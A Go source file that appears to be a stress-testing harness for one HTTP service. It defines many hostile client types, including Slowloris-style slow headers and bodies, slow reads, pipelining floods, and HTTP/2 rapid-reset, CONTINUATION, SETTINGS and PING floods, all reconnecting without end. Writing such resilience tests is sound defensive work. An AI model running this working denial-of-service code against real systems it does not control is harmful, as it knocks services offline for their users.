package main

import (
	"bytes"
	"fmt"
	"io"
	"net"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// kind is a kind of hostile client.
type kind struct {
	// name completes the sentence "Clients that ...".
	name        string
	connections int
	// use does to one connection what this kind does, until the server closes it or
	// the client has had enough.
	use func(net.Conn, string)
}

const (
	segmentation = "/machine_learning/text/technical_language/parsers/segmentation?classify=true"
	// busy is how many clients there are of the kinds that work as fast as they can.
	busy = 100
)

// kinds are all of them. Those that are slow have as many connections as are asked for.
func kinds(slow int) []kind {
	return []kind{
		{"connect and say nothing", slow, func(c net.Conn, _ string) { wait(c) }},
		{"send a byte of header a second", slow, func(c net.Conn, address string) {
			send(c, "GET /authorize HTTP/1.1\r\nHost: "+address+"\r\nX-Slow: ")
			drip(c)
		}},
		{"send a byte of a token request a second", slow, func(c net.Conn, address string) {
			send(c, "POST /oauth/token HTTP/1.1\r\nHost: "+address+"\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\n")
			drip(c)
		}},
		{"send a byte of a message a second", slow, func(c net.Conn, address string) {
			send(c, message(address, 1_000_000, ""))
			drip(c)
		}},
		{"announce a message and wait (Expect: 100-continue)", slow, func(c net.Conn, address string) {
			send(c, "POST "+segmentation+" HTTP/1.1\r\nHost: "+address+"\r\nContent-Type: application/json\r\nContent-Length: 100000000\r\nExpect: 100-continue\r\n\r\n")
			wait(c)
		}},
		{"read a byte of the answer a second", slow, func(c net.Conn, address string) {
			if t, ok := c.(interface{ SetReadBuffer(int) error }); ok {
				_ = t.SetReadBuffer(1)
			}
			send(c, message(address, 0, strings.Repeat("Please look at main.go:\\n\\nfunc main() {}\\n\\n", 500)))
			sip(c)
		}},
		{"ask once and keep the connection", slow, func(c net.Conn, address string) {
			send(c, "GET /authorize HTTP/1.1\r\nHost: "+address+"\r\n\r\n")
			wait(c)
		}},
		{"leave in mid-upload", busy, func(c net.Conn, address string) {
			send(c, message(address, 1_000_000, strings.Repeat("a", 100_000)))
		}},
		{"leave in mid-inference", busy, func(c net.Conn, address string) {
			send(c, message(address, 0, strings.Repeat("Please look at main.go:\\n\\nfunc main() {}\\n\\n", 10_000)))
			time.Sleep(100 * time.Millisecond)
		}},
		{"leave in mid-answer", busy, func(c net.Conn, address string) {
			send(c, message(address, 0, strings.Repeat("Please look at main.go:\\n\\nfunc main() {}\\n\\n", 1000)))
			_, _ = c.Read(make([]byte, 100))
		}},
		{"send HTTP/1.1 requests as fast as they can", busy, func(c net.Conn, address string) {
			go wait(c)
			requests := strings.Repeat("POST "+segmentation+" HTTP/1.1\r\nHost: "+address+"\r\nContent-Length: 0\r\n\r\n", 100)
			for {
				if _, err := io.WriteString(c, requests); err != nil {
					return
				}
			}
		}},
		{"reset HTTP/2 streams as fast as they can", busy, http2Attack(func(s *session, id uint32) error {
			if err := s.open(id, true); err != nil {
				return err
			}
			return s.WriteRSTStream(id, http2.ErrCodeCancel)
		})},
		{"open HTTP/2 streams and never end them", busy, http2Attack(func(s *session, id uint32) error { return s.open(id, false) })},
		{"send CONTINUATION without end", busy, http2Attack(func(s *session, id uint32) error {
			if err := s.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: s.block()}); err != nil {
				return err
			}
			for {
				if err := s.WriteContinuation(id, false, bytes.Repeat([]byte{0}, 16<<10)); err != nil {
					return err
				}
			}
		})},
		{"send SETTINGS without end", busy, http2Attack(func(s *session, _ uint32) error { return s.WriteSettings() })},
		{"send PING without end", busy, http2Attack(func(s *session, _ uint32) error { return s.WritePing(false, [8]byte{}) })},
		{"send empty DATA without end", busy, http2Attack(func(s *session, id uint32) error {
			if err := s.open(id, false); err != nil {
				return err
			}
			for {
				if err := s.WriteData(id, false, nil); err != nil {
					return err
				}
			}
		})},
	}
}

// attack keeps the connections open, each opened again when it has been closed,
// until the process ends, and counts them, and the bytes that they send.
func (k *kind) attack(address string) (connections, bytes *atomic.Int64) {
	connections, bytes = new(atomic.Int64), new(atomic.Int64)
	for range k.connections {
		go func() {
			for {
				c, err := net.DialTimeout("tcp", address, time.Minute)
				if err != nil {
					time.Sleep(100 * time.Millisecond) // the queue of the listener is full
					continue
				}
				connections.Add(1)
				k.use(sender{c.(*net.TCPConn), bytes}, address)
				_ = c.Close()
			}
		}()
	}
	return connections, bytes
}

// sender is a connection that counts the bytes that are sent.
type sender struct {
	*net.TCPConn
	bytes *atomic.Int64
}

func (s sender) Write(p []byte) (int, error) {
	n, err := s.TCPConn.Write(p)
	s.bytes.Add(int64(n))
	return n, err
}

func send(c net.Conn, text string) { _, _ = io.WriteString(c, text) }

// message is the beginning of a request with a message, whose body may be announced
// longer than it is.
func message(address string, length int, text string) string {
	body := `{"value":"` + text
	if length == 0 {
		body += `"}`
		length = len(body)
	}
	return fmt.Sprintf("POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", segmentation, address, length, body)
}

// wait waits until the server closes.
func wait(c net.Conn) { _, _ = io.Copy(io.Discard, c) }

// drip sends a byte a second until the server closes.
func drip(c net.Conn) { dripEach(c, time.Second, "a") }

// dripEach sends a little at a steady rate until the server closes.
func dripEach(c net.Conn, interval time.Duration, little string) {
	closed := make(chan struct{})
	go func() {
		wait(c)
		close(closed)
	}()
	for {
		select {
		case <-closed:
			return
		case <-time.After(interval):
			send(c, little)
		}
	}
}

// sip reads a byte a second.
func sip(c net.Conn) {
	one := make([]byte, 1)
	for {
		if _, err := c.Read(one); err != nil {
			return
		}
		time.Sleep(time.Second)
	}
}

// session is the client's side of a connection of HTTP/2 without TLS (h2c).
type session struct {
	*http2.Framer
	address string
	fields  bytes.Buffer
	encoder *hpack.Encoder
}

// http2Attack does something for one stream after the other.
func http2Attack(do func(*session, uint32) error) func(net.Conn, string) {
	return func(c net.Conn, address string) {
		s := &session{Framer: http2.NewFramer(c, nil), address: address}
		s.encoder = hpack.NewEncoder(&s.fields)
		go wait(c)
		send(c, http2.ClientPreface)
		if s.WriteSettings() != nil {
			return
		}
		for id := uint32(1); id < 1<<31; id += 2 {
			if do(s, id) != nil {
				return
			}
		}
	}
}

// block encodes the header of a request with a message.
func (s *session) block() []byte {
	s.fields.Reset()
	for _, field := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":authority", s.address}, {":path", segmentation}, {"content-type", "application/json"}} {
		_ = s.encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}) // to memory
	}
	return s.fields.Bytes()
}

// open opens a stream.
func (s *session) open(id uint32, ended bool) error {
	return s.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: s.block(), EndStream: ended, EndHeaders: true})
}
